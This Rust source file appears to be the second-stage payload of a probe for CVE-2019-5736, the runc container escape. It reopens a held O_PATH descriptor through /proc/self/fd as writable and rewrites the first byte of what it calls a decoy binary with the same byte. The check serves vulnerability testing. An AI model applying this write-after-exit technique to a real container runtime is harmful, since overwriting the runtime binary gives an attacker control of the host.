use rustix::fd::BorrowedFd;
use rustix::fs::{Mode, OFlags};

/// The report pipe and the held O_PATH fd that stage 2 `--inspect` leaves to its payload.
const REPORT_FD: i32 = 3;
const HELD_FD: i32 = 4;

/// Runs as the payload of stage 2 `--inspect`, once no process runs the runtime binary:
/// CVE-2019-5736's second half. Rewrites the first byte with itself, so even a success
/// leaves the decoy as it was.
pub fn run() -> i32 {
    let outcome = match reopen_and_rewrite() {
        Ok(()) => "ok",
        Err(e) => strategies::errno_name(e),
    };
    // SAFETY: the parent placed the report pipe on fd 3 for exactly this line.
    let report = unsafe { BorrowedFd::borrow_raw(REPORT_FD) };
    let _ = rustix::io::write(report, format!("reopen-after-exit {outcome}\n").as_bytes());
    0
}

fn reopen_and_rewrite() -> rustix::io::Result<()> {
    let path = format!("/proc/self/fd/{HELD_FD}");
    let fd = rustix::fs::open(path.as_str(), OFlags::RDWR | OFlags::CLOEXEC, Mode::empty())?;
    let mut byte = [0u8];
    rustix::io::pread(&fd, &mut byte, 0)?;
    rustix::io::pwrite(&fd, &byte, 0)?;
    Ok(())
}
